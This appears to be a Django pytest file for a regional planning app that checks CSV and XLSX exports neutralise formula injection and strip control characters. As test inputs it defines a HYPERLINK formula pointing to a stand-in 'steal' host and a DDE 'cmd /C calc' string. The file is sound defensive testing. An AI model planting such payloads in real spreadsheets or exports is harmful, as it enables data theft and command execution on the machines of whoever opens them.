"""Formula injection in exports (issue 17, finding 3): text starting with `=` entered through an
import, a form or the API comes back as a string cell in the XLSX exports and with a leading `'`
in the CSV exports; a stored control character no longer makes the members and activities
exports fail."""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from indicators.models import Value
from indicators.tests.helpers import csv_bytes
from planning.models import Activity
from planning.tests import helpers as h
from workgroups.models import Member

PAYLOAD = '=HYPERLINK("http://x.example/steal","klik")'


def _cells(content: bytes) -> list:
    """Every (value, data_type) of every sheet, after checking that no cell is a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    workbook = load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def test_an_imported_note_comes_back_as_text_in_the_indicator_exports(personas):
    content = csv_bytes([["73.06", "stunting", 2024, "", "realisasi", "23,4", "SSGI", PAYLOAD]])
    response = personas.api_client("gowa_operator").post(
        "/api/v1/regions/73.06/indicators/import",
        {"file": SimpleUploadedFile("nilai.csv", content)},
    )
    assert response.status_code == 200, response.content
    assert Value.objects.get().note == PAYLOAD

    client = personas.client("gowa_operator")
    exported = client.get("/r/73.06/indicators/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert rows[1][7] == "'" + PAYLOAD
    assert rows[1][5] == "23.4"  # numbers stay numbers

    xlsx = client.get("/r/73.06/indicators/export.xlsx").content
    assert (PAYLOAD, "s") in _cells(xlsx)


@pytest.fixture
def gowa_plan(personas):
    plan = h.plan("73.06", activities=0)
    h.institution("73.06", "Dinas Kesehatan")
    return plan


def test_members_from_the_form_and_the_api_come_back_as_text(personas, gowa_plan):
    api = personas.api_client("gowa_operator")
    response = api.post(
        "/api/v1/regions/73.06/workgroup/members",
        {"name": PAYLOAD, "position": "+62 812", "role": "member"},
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    client = personas.client("gowa_operator")
    response = client.post(
        "/r/73.06/pokja/members/new/",
        {"name": "@SUM(1+1)*cmd", "position": "-1+1", "role": "member"},
    )
    assert response.status_code == 302, response.context["form"].errors
    cells = _cells(client.get("/r/73.06/pokja/members/export/").content)
    for text in (PAYLOAD, "+62 812", "@SUM(1+1)*cmd", "-1+1"):
        assert (text, "s") in cells


def test_a_stored_control_character_does_not_break_the_members_export(personas, gowa_plan):
    member = Member.objects.create(
        workgroup=gowa_plan.workgroup, name="Nur\x07 Aisyah", position="Kepala\x0bSeksi"
    )
    response = personas.client("gowa_operator").get("/r/73.06/pokja/members/export/")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert ("Nur Aisyah", "s") in cells and ("KepalaSeksi", "s") in cells
    assert member.pk


def test_imported_activities_come_back_as_text_and_control_characters_are_removed(
    personas, gowa_plan, page_import
):
    client = personas.client("gowa_operator")
    dde = "+cmd|' /C calc'!A0"  # openpyxl writes text starting with + or @ as text
    upload = h.filled_template(
        h.template_for(gowa_plan), [h.activity_row(dde, expected_output="@SUM(1+1)")]
    )
    response, job = page_import(
        client, f"/r/73.06/plans/{gowa_plan.year}/activities/import/", {"file": upload}
    )
    assert response.status_code == 302 and job.state == "succeeded", job.messages
    Activity.objects.filter(plan=gowa_plan).update(
        progress_note="catatan\x1b[31m merah", expected_output=PAYLOAD
    )
    response = client.get(f"/r/73.06/plans/{gowa_plan.year}/activities/export.xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert (dde, "s") in cells and (PAYLOAD, "s") in cells
    assert ("catatan[31m merah", "s") in cells
